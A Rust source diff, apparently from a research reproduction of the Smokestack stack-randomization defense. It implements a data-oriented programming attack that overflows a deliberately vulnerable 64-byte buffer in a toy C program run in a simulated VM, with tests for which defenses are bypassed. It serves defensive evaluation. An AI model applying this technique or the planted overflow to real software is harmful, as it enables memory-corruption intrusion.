@@ -1,0 +1,310 @@
+//! The paper's Listing 1: a minimal DOP-vulnerable loop. A stack buffer
+//! overflow inside the loop gives the attacker per-iteration control of
+//! the loop counter (the *gadget dispatcher*) and of the operand
+//! variables of simple arithmetic *gadgets*, yielding attacker-chosen
+//! computation entirely within the program's legitimate control flow.
+//!
+//! The adversary here performs the paper's §II-C methodology end to
+//! end: disclose the layout of a prior run, locate its buffer in the
+//! live run by scanning writable memory for a marker, then deliver a
+//! read-modify-write payload per iteration that drives the gadgets:
+//!
+//! `target = target + 700 - 58` — a computation no benign execution
+//! performs.
+//!
+//! Against Smokestack with a secure RNG the relative offsets change
+//! every run (and guessing a P-BOX row is all the attacker can do);
+//! against the insecure `pseudo` scheme the adversary reads the PRNG
+//! state out of data memory and predicts the exact layout, reproducing
+//! the paper's argument for disclosure-resistant randomness.
+
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use smokestack_defenses::DefenseKind;
+use smokestack_srng::SchemeKind;
+use smokestack_vm::{FnInput, Memory};
+
+use crate::intel::{probe, read_pseudo_state, scan_stack, PseudoOracle};
+use crate::{classify, Attack, AttackOutcome, Build};
+
+/// Attacker-chosen computation: `1000 + 700 - 58`.
+pub const EXPECTED: i64 = 1642;
+
+/// Marker the adversary plants to re-locate its buffer.
+const MARKER: u64 = 0xdeadbeefcafef00d;
+
+/// The vulnerable program (paper Listing 1, concretized).
+pub const SOURCE: &str = r#"
+    long target = 1000;
+
+    void dispatcher() {
+        long ctr = 0;
+        long max = 2;
+        long op = 0;
+        long operand = 0;
+        long acc = 0;
+        char buff[64];
+        while (ctr < max) {
+            get_input(buff, 512);
+            if (op == 1) { acc = acc + operand; }
+            if (op == 2) { acc = acc - operand; }
+            if (op == 3) { target = acc; }
+            if (op == 4) { acc = target; }
+            op = 0;
+            ctr = ctr + 1;
+        }
+    }
+
+    int main() { dispatcher(); return 0; }
+"#;
+
+/// Variables the payload must set, in program declaration order.
+const VARS: [&str; 5] = ["ctr", "max", "op", "operand", "acc"];
+
+/// The Listing 1 DOP attack.
+pub struct Listing1Attack;
+
+/// All five gadget variables must be reachable by a forward write from
+/// the buffer that fits the 512-byte read.
+fn favorable(offsets: &[i64]) -> bool {
+    offsets.iter().all(|&d| d >= 8 && d + 8 <= 512)
+}
+
+/// Offsets of (ctr, max, op, operand, acc) relative to buff for a given
+/// P-BOX draw; slots are in declaration order, buff last.
+fn offsets_for_draw(report: &smokestack_core::HardenReport, draw: u64) -> Vec<i64> {
+    let oracle = PseudoOracle::new(report);
+    let offs = oracle.offsets_for_draw("dispatcher", draw);
+    let buff_off = offs[5] as i64;
+    offs[..5].iter().map(|&o| o as i64 - buff_off).collect()
+}
+
+/// Per-round gadget programming: (op, operand, final_round).
+const SCRIPT: [(i64, i64); 4] = [(4, 0), (1, 700), (2, 58), (3, 0)];
+
+impl Attack for Listing1Attack {
+    fn name(&self) -> &str {
+        "listing1-dop"
+    }
+
+    fn source(&self) -> &str {
+        SOURCE
+    }
+
+    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
+        // --- Reconnaissance (prior run of the same build) ---
+        // Benign probe run: two empty inputs let the loop exit cleanly.
+        let intel = probe(build, run_seed ^ 0x9999, vec![vec![], vec![]]);
+        // Offsets of the gadget variables relative to the buffer, as
+        // observed in the probe. For Smokestack builds the replaced
+        // allocas are not disclosed this way; the attacker falls back to
+        // guessing a P-BOX row (brute force) or, under `pseudo`,
+        // predicting it from the in-memory PRNG state.
+        let probe_offsets: Option<Vec<i64>> = VARS
+            .iter()
+            .map(|v| intel.offset_between("dispatcher", "buff", v))
+            .collect();
+
+        let smokestack = build.deployment.smokestack.clone();
+        let is_pseudo = build.defense == DefenseKind::Smokestack(SchemeKind::Pseudo);
+        // Row guess for secure schemes, fixed up front for this run.
+        let guessed_draw: u64 = StdRng::seed_from_u64(run_seed).gen();
+
+        // Pre-commit decision for the secure-scheme guesser: if even the
+        // *guessed* layout is unusable, stay stealthy and retry.
+        if let Some(report) = &smokestack {
+            if !is_pseudo && !favorable(&offsets_for_draw(report, guessed_draw)) {
+                return AttackOutcome::Aborted;
+            }
+        }
+        // Same for disclosed static layouts: the adversary knows exactly
+        // which builds its forward-only write primitive cannot exploit
+        // (e.g. a static permutation that put the buffer above a gadget
+        // variable) and never tips its hand on those.
+        if smokestack.is_none() {
+            match &probe_offsets {
+                Some(po) if favorable(po) => {}
+                _ => return AttackOutcome::Aborted,
+            }
+        }
+
+        // --- Exploit run ---
+        use std::cell::RefCell;
+        use std::rc::Rc;
+        let aborted = Rc::new(RefCell::new(false));
+        let committed = Rc::new(RefCell::new(false));
+        let aborted_c = aborted.clone();
+        let committed_c = committed.clone();
+
+        let mut vm = build.vm(run_seed);
+        let adversary = FnInput(move |mem: &mut Memory, req, _max| {
+            if *aborted_c.borrow() {
+                return vec![]; // stay benign for the rest of the run
+            }
+            if req == 0 {
+                // Under pseudo, the PRNG state already reveals this
+                // invocation's permutation; abort now if unusable.
+                if is_pseudo {
+                    let report = smokestack.as_ref().expect("pseudo is smokestack");
+                    let draw = PseudoOracle::last_draw(read_pseudo_state(mem));
+                    if !favorable(&offsets_for_draw(report, draw)) {
+                        *aborted_c.borrow_mut() = true;
+                        return vec![];
+                    }
+                }
+                // Plant the marker, behave benignly otherwise.
+                return MARKER.to_le_bytes().to_vec();
+            }
+            let step = (req - 1) as usize;
+            if step >= SCRIPT.len() {
+                return vec![];
+            }
+            // Locate the buffer in the live run.
+            let buff = match scan_stack(mem, MARKER, 2 << 20) {
+                Some(a) => a,
+                None => return vec![],
+            };
+            // Determine this invocation's variable offsets from buff.
+            let offsets: Vec<i64> = if let Some(report) = &smokestack {
+                let draw = if is_pseudo {
+                    PseudoOracle::last_draw(read_pseudo_state(mem))
+                } else {
+                    guessed_draw
+                };
+                offsets_for_draw(report, draw)
+            } else if let Some(po) = &probe_offsets {
+                po.clone()
+            } else {
+                return vec![];
+            };
+            let span = offsets.iter().map(|&d| d + 8).max().unwrap_or(8) as usize;
+            if span > 512 {
+                return vec![];
+            }
+            let mut payload = match mem.read(buff, span as u64) {
+                Ok(b) => b.to_vec(),
+                Err(_) => return vec![],
+            };
+            let (op, operand) = SCRIPT[step];
+            let last = step + 1 == SCRIPT.len();
+            let ctr: i64 = if last { 9 } else { 0 };
+            let max: i64 = 10;
+            let acc_off = offsets[4];
+            let acc_val = if (0..=span as i64 - 8).contains(&acc_off) {
+                i64::from_le_bytes(
+                    payload[acc_off as usize..acc_off as usize + 8]
+                        .try_into()
+                        .expect("8 bytes"),
+                )
+            } else {
+                0
+            };
+            *committed_c.borrow_mut() = true;
+            for (k, &val) in [ctr, max, op, operand, acc_val].iter().enumerate() {
+                let d = offsets[k];
+                if d < 0 || d as usize + 8 > span {
+                    continue; // unreachable slot (stale/garbled guess)
+                }
+                payload[d as usize..d as usize + 8].copy_from_slice(&val.to_le_bytes());
+            }
+            // Re-plant the marker for subsequent rounds.
+            payload[..8].copy_from_slice(&MARKER.to_le_bytes());
+            payload
+        });
+        let out = vm.run_main(adversary);
+        if *aborted.borrow() {
+            return AttackOutcome::Aborted;
+        }
+        let target_addr = vm.global_addr("target");
+        let target = vm.mem().read_uint(target_addr, 8).unwrap_or(0) as i64;
+        let outcome = classify(
+            &out,
+            target == EXPECTED,
+            &format!("target transformed to {EXPECTED}"),
+        );
+        if !*committed.borrow() && !outcome.is_success() {
+            // Never sent a corrupting payload: stealthy.
+            return AttackOutcome::Aborted;
+        }
+        outcome
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evaluate_seeded;
+
+    #[test]
+    fn bypasses_unprotected_build() {
+        let eval = evaluate_seeded(&Listing1Attack, DefenseKind::None, 3, 1);
+        assert_eq!(eval.successes, 3, "{eval}");
+    }
+
+    #[test]
+    fn bypasses_stack_base_randomization() {
+        let eval = evaluate_seeded(&Listing1Attack, DefenseKind::StackBase, 3, 2);
+        assert_eq!(eval.successes, 3, "{eval}");
+    }
+
+    #[test]
+    fn bypasses_entry_padding() {
+        let eval = evaluate_seeded(&Listing1Attack, DefenseKind::EntryPadding, 3, 3);
+        assert_eq!(eval.successes, 3, "{eval}");
+    }
+
+    #[test]
+    fn static_permutation_bypassed_on_vulnerable_builds() {
+        // A compile-time permutation is a per-build coin flip for a
+        // forward-only linear primitive: builds where the buffer landed
+        // below the gadget variables are fully exploitable (the
+        // attacker knows which, having disclosed the static layout).
+        // The librelp case study shows the full bypass with a
+        // non-linear primitive.
+        let mut bypassed = 0;
+        let mut blocked = 0;
+        for base_seed in 0..12u64 {
+            let eval =
+                evaluate_seeded(&Listing1Attack, DefenseKind::StaticPermutation, 1, base_seed);
+            if eval.successes > 0 {
+                bypassed += 1;
+            } else {
+                assert_eq!(eval.detections, 0, "static perm cannot detect: {eval}");
+                blocked += 1;
+            }
+        }
+        assert!(bypassed >= 1, "no vulnerable build among 12");
+        assert!(blocked >= 1, "expected some builds to be lucky");
+    }
+
+    #[test]
+    fn bypasses_stack_canary() {
+        // Targeted DOP writes stop short of the canary slot.
+        let eval = evaluate_seeded(&Listing1Attack, DefenseKind::Canary, 3, 5);
+        assert_eq!(eval.successes, 3, "{eval}");
+    }
+
+    #[test]
+    fn stopped_by_smokestack_aes10() {
+        let eval = evaluate_seeded(
+            &Listing1Attack,
+            DefenseKind::Smokestack(SchemeKind::Aes10),
+            8,
+            6,
+        );
+        assert!(eval.stopped(), "{eval}");
+    }
+
+    #[test]
+    fn bypasses_smokestack_with_insecure_pseudo_rng() {
+        // The ablation: memory-resident PRNG state lets the adversary
+        // predict every permutation.
+        let eval = evaluate_seeded(
+            &Listing1Attack,
+            DefenseKind::Smokestack(SchemeKind::Pseudo),
+            3,
+            7,
+        );
+        assert_eq!(eval.successes, 3, "{eval}");
+    }
+}
